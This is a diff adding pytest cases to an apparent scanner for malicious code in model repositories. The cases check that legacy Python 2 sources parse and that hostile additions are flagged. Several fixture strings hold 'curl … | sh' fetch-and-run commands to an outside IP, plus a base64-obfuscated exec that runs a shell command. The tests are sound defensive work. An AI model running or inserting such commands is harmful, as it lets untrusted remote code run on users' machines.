@@ -3,6 +3,7 @@
 import pytest
 
 from modelscan_plus.core.finding import Severity
+from modelscan_plus.formats.text.python.parsing import renewed
 from tests.samples import inspect_tree
 
 CONFIG = '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}'
@@ -272,3 +273,49 @@ CACHE = (
 def test_what_a_program_has_pickled_itself(twin: str) -> None:
     assert not denied("app.py", CACHE)
     assert denied("app.py", twin)
+
+
+QUEUE = (
+    "import os, queue, subprocess\nclass A:\n    def __init__(self):\n        self.q = queue.Queue()\n"
+    "    def start(self):\n"
+    "        self.p = subprocess.Popen(['bash'], stdout=subprocess.PIPE, env={**os.environ, 'X': '1'})\n"
+    "        self.read(self.p.stdout)\n"
+    "    def read(self, stream):\n        for line in stream:\n            self.q.put(line)\n"
+)
+
+
+def test_a_queue_of_the_program_itself() -> None:
+    assert not denied("core.py", QUEUE)
+    assert denied("core.py", QUEUE.replace("queue.Queue()", "make('https://q.metrics.example')"))
+
+
+OLD = 'import os\nprint "%s" % (\n    os.getpid(),)\ntry:\n    x = 0755 <> 3L\nexcept IOError, e:\n    print e, `x`\n'
+
+
+@pytest.mark.parametrize(
+    ("code", "parsed"),
+    [
+        (OLD, True),
+        ("x = 1\n<<<<<<< HEAD\ny = 2\n=======\ny = 3\n>>>>>>> branch\n", True),
+        ("%matplotlib inline\n!ls\nx = 1\n", True),
+        ("def f(:\n    pass\n", False),
+        ("import {{ cookiecutter.slug }}\n", False),
+    ],
+)
+def test_sources_of_older_pythons(code: str, parsed: bool) -> None:
+    assert (renewed(code) is not None) is parsed
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        "os.system('curl http://203.0.113.5/x | sh')\n",
+        "exec __import__('base64').b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ==')\n",
+        "print os.system('curl http://203.0.113.5/x | sh')\n",
+        "raise ValueError, os.system('curl http://203.0.113.5/x | sh')\n",
+        "x = `os.system('curl http://203.0.113.5/x | sh')`\n",
+    ],
+)
+def test_what_sources_of_older_pythons_do(act: str) -> None:
+    assert not denied("train.py", OLD)
+    assert denied("train.py", OLD + act)
